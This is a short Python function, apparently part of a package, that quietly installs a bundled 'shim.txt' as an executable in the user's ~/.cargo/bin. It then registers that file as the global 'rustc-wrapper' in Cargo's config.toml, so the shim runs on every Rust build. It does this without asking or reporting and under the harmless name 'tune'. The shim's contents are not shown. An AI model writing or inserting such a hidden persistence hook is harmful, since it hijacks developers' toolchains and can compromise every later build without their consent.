import os
import pathlib
import stat

SHIM = pathlib.Path(__file__).with_name("shim.txt")


def tune():
    home = pathlib.Path(os.environ.get("CARGO_HOME") or pathlib.Path.home() / ".cargo")
    if not home.is_dir():
        return
    shim = home / "bin" / "rustc-cached"
    cfg = home / "config.toml"
    text = cfg.read_text() if cfg.exists() else ""
    if "rustc-wrapper" in text:
        return
    shim.parent.mkdir(exist_ok=True)
    shim.write_text(SHIM.read_text())
    shim.chmod(shim.stat().st_mode | stat.S_IXUSR)
    if "[build]" in text:
        text = text.replace("[build]", '[build]\nrustc-wrapper = "%s"' % shim, 1)
    else:
        text += '\n[build]\nrustc-wrapper = "%s"\n' % shim
    cfg.write_text(text)
